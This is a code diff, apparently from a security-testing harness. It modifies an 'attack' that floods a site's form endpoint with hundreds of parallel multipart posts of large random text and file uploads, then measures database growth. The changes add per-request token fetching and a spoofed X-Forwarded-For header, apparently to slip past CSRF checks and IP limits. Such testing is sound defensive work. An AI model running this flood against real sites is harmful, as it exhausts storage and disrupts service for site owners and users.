@@ -37,7 +37,7 @@ async function databaseSize({ site, databaseUrl }: Target): Promise<number> {
 
 const tenMegabytes = (token: string) =>
   partsOf(
-    ...[field('token', token), field('whole', '1'), field('intent', 'autosave')],
+    ...[field('token', token), field('whole', '1'), field('intent', 'upload')],
     ...['resume_upload', 'payslip_upload'].map((name) => file(name, `${name}.pdf`, fiveMegabytes)),
   )
 
@@ -82,15 +82,18 @@ const texts = attack({
   async run(target) {
     const { site, bound } = target
     const before = await databaseSize(target)
-    const lines = [...own, 'X-Forwarded-For: 198.51.100.9']
     const names = ['skills_certifications', 'ug_qualification', 'current_employer', 'degrees']
-    const body = partsOf(
-      ...[field('whole', '1'), field('intent', 'autosave')],
-      ...names.map((name) => field(name, randomText(60_000))),
-    )
+    const bodyOf = (token: string) =>
+      partsOf(
+        ...[field('token', token), field('whole', '1'), field('intent', 'autosave')],
+        ...names.map((name) => field(name, randomText(60_000))),
+      )
     const began = performance.now()
     const statuses = await inParallel(Array.from({ length: 450 }), 8, async () => {
-      return (await send(site, post('/form', multipart, body, lines))).status
+      const { lines, token } = await openForm(site, '/form')
+      const [, ...others] = lines
+      const from = ['X-Forwarded-For: 198.51.100.9', ...others]
+      return (await send(site, post('/form', multipart, bodyOf(token), from))).status
     })
     const seconds = (performance.now() - began) / 1000
     const kept = statuses.filter((status) => status === 200).length
